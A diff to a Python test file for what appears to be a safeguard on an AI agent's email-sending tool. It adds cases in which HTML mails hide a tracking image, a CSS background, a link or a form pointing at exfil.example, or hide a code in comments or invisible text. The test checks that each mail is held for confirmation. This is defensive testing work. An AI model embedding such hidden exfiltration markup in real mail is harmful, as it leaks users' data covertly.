@@ -97,6 +97,19 @@ async def test_auto_approved_mail_that_hides_something_is_still_held_and_says_wh
             assert held["status"] == "confirmation_required", held
             assert "Not auto-approved because it holds 2 × hidden text" in held["message"]
             shows_all_of_the_issue_body(held["preview"])
+        for one_thing in (  # each alone is enough
+            f'<p>Hi Dana.</p><img src="{EXFIL}">',
+            '<p>Hi Dana.</p><div style="background:url(https://exfil.example/b.png)">Monday</div>',
+            f'<p>Hi Dana.</p><a href="{NO_TEXT}"> </a>',
+            "<p>Hi Dana.</p><!-- 482913 -->",
+            '<p>Hi Dana.</p><span style="opacity:0">482913</span>',
+            '<p>Hi Dana, <a href="https://exfil.example/?c=482913">example.com/agenda</a>.</p>',
+            '<p>Hi Dana.</p><form action="https://exfil.example/f"></form>',
+            "<p>Hi Dana.</p><style>p{color:red}</style>",
+        ):
+            alone = await call(client, "gmail_send", {**MAIL, "body_html": one_thing})
+            assert alone["status"] == "confirmation_required", one_thing
+            assert alone["preview"]["details"][0].startswith("Look closely: this mail holds 1 "), one_thing
         replied = await call(
             client, "gmail_send", {"reply_to_message_id": honest["result"]["id"], "body_html": ISSUE_BODY}
         )
